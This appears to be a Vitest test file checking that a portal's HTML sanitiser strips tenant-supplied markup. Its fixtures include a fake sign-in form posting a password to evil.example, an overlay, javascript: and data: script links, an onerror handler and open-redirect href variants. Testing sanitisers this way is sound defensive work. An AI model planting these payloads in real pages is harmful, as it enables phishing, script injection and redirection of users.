/**
 * Tenant-supplied HTML shown by the framework's `html` field (issue 11): one sanitiser configuration for the whole
 * portal, the agreement pages' (`src/shared/sanitize.ts`). DOMPurify's defaults keep forms, inputs and inline
 * styles, so a tenant could draw a fake sign-in form over the page or phish a password into its own server.
 */
import { render } from '@testing-library/react';
import { AdminContext, RecordContextProvider } from 'react-admin';
import { describe, expect, it } from 'vitest';
import { defineResource } from '../../src/framework/define';
import { renderField } from '../../src/framework/views/fieldComponents';

const notices = defineResource({
  name: 'notices',
  labels: { singular: 'Notice', plural: 'Notices' },
  recordRepresentation: 'id',
  api: { service: 'portal', simpleRest: 'notices' },
  route: { base: '/notices', views: { list: true } },
  fields: [{ source: 'body', type: 'html', label: 'Body' }],
  access: { list: ['SuperAdmin'] },
});

const HOSTILE = `<p>Welcome</p>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:9999">overlay</div>
<a href="javascript:alert(1)">script link</a>
<a href="https://example.org/help">help</a>
<iframe src="https://evil.example"></iframe>
<img src="x" onerror="window.__ran=true">
<style>body{display:none}</style>`;

const renderBody = (body: string) =>
  render(
    <AdminContext>
      <RecordContextProvider value={{ id: 1, body }}>{renderField(notices, notices.fields[0])}</RecordContextProvider>
    </AdminContext>,
  );

describe('the html field renders tenant HTML inert', () => {
  it('drops forms, inputs, buttons, frames, styles, handlers and script links; keeps text and safe links', async () => {
    const { container, findByText } = renderBody(HOSTILE);
    await findByText('Welcome');
    expect(container.querySelector('form, input, button, iframe, style, script')).toBeNull();
    expect(container.querySelector('[style]')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect(container.querySelector('a[href^="javascript"]')).toBeNull();
    const help = container.querySelector('a[href="https://example.org/help"]');
    expect(help?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(help?.getAttribute('target')).toBe('_blank');
    expect((window as { __ran?: boolean }).__ran).toBeUndefined();
  });
});

describe('links in tenant HTML (issue 22, ASVS 1.2.2)', () => {
  /** Each href as written, and whether it survives: only https, mailto, tel and paths on this site. */
  const LINKS: [string, boolean][] = [
    ['https://example.org/help', true],
    ['mailto:pensions@example.org', true],
    ['tel:+442079460000', true],
    ['/auth/agreements/terms-of-use', true],
    ['#section-2', true],
    ['http://example.org/help', false],
    ['HTTP://example.org/help', false],
    ['/\\evil.example', false],
    ['\\\\evil.example', false],
    ['/\\/evil.example', false],
    ['//evil.example', false],
    ['/\t/evil.example', false],
    ['\\/evil.example', false],
    ['data:text/html,<script>alert(1)</script>', false],
    ['vbscript:msgbox', false],
    ['ftp://example.org/file', false],
  ];

  it.each(LINKS)('%j survives: %s', async (href, survives) => {
    const { container, findByText } = renderBody(`<p>Links</p><a href="${href.replace(/"/g, '&quot;')}">link</a>`);
    await findByText('Links');
    const link = container.querySelector('a')!;
    expect(link.hasAttribute('href')).toBe(survives);
  });
});
